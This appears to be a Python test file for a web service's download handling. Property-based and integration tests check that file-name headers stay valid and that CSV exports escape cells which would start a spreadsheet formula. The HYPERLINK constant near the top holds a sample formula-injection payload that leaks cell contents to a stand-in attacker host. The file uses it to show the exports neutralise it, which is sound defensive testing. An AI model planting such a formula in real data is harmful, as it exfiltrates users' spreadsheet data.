"""Download names in any script, and CSV cells a spreadsheet cannot run: pure, and through the API and the web."""

import csv
import io
from datetime import date
from pathlib import Path
from urllib.parse import unquote

from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy.orm import Session

import app
from app.downloads import FORMULA_START, content_disposition, csv_cell, csv_text
from tests.factories import bearer, make_request, make_user
from tests.web.helpers import sign_in, web_user

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for the figures")'


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=80))
def test_any_file_name_makes_a_header_that_says_it_back(name: str) -> None:
    header = content_disposition("attachment", name)
    header.encode("latin-1")  # what an HTTP header may carry: a 500 otherwise
    assert "\r" not in header
    assert "\n" not in header
    fallback, starred = header.split("; filename=", 1)[1].split("; filename*=UTF-8''")
    assert unquote(starred) == name  # filename* (RFC 6266 / 5987) carries the name as written
    assert fallback.startswith('"')
    assert fallback.endswith('"')
    assert '"' not in fallback[1:-1]


def test_formula_cells_are_kept_as_text() -> None:
    assert [csv_cell(v) for v in ("=HYPERLINK(1)", "+1", "-2", "@x", "\tx", "\rx", "Team A", 3)] == [
        "'=HYPERLINK(1)", "'+1", "'-2", "'@x", "'\tx", "'\rx", "Team A", 3,
    ]  # fmt: skip


def test_a_welsh_file_name_uploads_and_downloads(client: TestClient, session: Session) -> None:
    officer = make_user(session, "officer")[1]
    req = make_request(client, officer)
    base = f"/api/v1/requests/{req['id']}"
    doc = client.post(f"{base}/documents", json={"item": "1", "title": "Adroddiad"}, headers=bearer(officer)).json()
    up = client.put(
        f"{base}/documents/{doc['id']}/content",
        content="Adroddiad yr ŵyl.".encode(),
        params={"filename": "Adroddiad-ŵyl.txt"},
        headers={**bearer(officer), "Content-Type": "text/plain"},
    )
    assert up.status_code == 200, up.text
    got = client.get(f"{base}/documents/{doc['id']}/content", headers=bearer(officer))
    assert got.status_code == 200
    assert "filename*=UTF-8''Adroddiad-%C5%B5yl.txt" in got.headers["content-disposition"]
    assert got.content == "Adroddiad yr ŵyl.".encode()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(max_size=20), st.integers()), min_size=1, max_size=4), max_size=4))
def test_no_csv_cell_can_start_a_formula(rows: list[list[object]]) -> None:
    header = [str(c) for c in rows[0]] if rows else ["heading"]
    text = csv_text(header, rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == len(rows) + 1
    for written, read in zip([header, *rows], parsed, strict=True):
        for cell, back in zip(written, read, strict=True):
            if isinstance(cell, int):  # a number is a value, -1 included, never a formula
                assert back == str(cell)
            else:
                assert not back.startswith(FORMULA_START)
                assert back in {cell, "'" + str(cell)}


def test_only_the_downloads_module_writes_csv() -> None:
    """Every CSV the service produces goes through csv_text, so none can carry a formula."""
    root = Path(app.__file__).parent
    writers = sorted(
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "csv.writer" in p.read_text() or "csv.Dict" in p.read_text()
    )
    assert writers == ["downloads.py"]


def test_a_team_named_as_a_formula_stays_text_in_every_csv(  # type: ignore[no-untyped-def]
    client: TestClient, session: Session, today
) -> None:
    today(date(2025, 6, 30))
    admin = make_user(session, "admin")[1]
    created = client.post(
        "/api/v1/users",
        json={"name": "Eve", "email": "eve@example.org", "role": "officer", "team": "Records"},
        headers=bearer(admin),
    )
    assert created.status_code == 201, created.text
    officer, officer_id = created.json()["token"], created.json()["user"]["id"]
    renamed = client.patch(f"/api/v1/users/{officer_id}", json={"team": HYPERLINK}, headers=bearer(admin))
    assert renamed.status_code == 200, renamed.text
    make_request(client, officer, received_on="2025-03-14", assigned_to_id=officer_id)
    params = {"from": "2025-01-01", "to": "2025-06-30", "group_by": "team"}
    api = client.get("/api/v1/statistics.csv", params=params, headers=bearer(admin))
    sign_in(client, web_user(session, "officer"))
    web = client.get("/statistics.csv", params=params)
    for response in (api, web):
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.text, newline="")))
        assert [row[1] for row in rows[1:]] == ["'" + HYPERLINK]
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
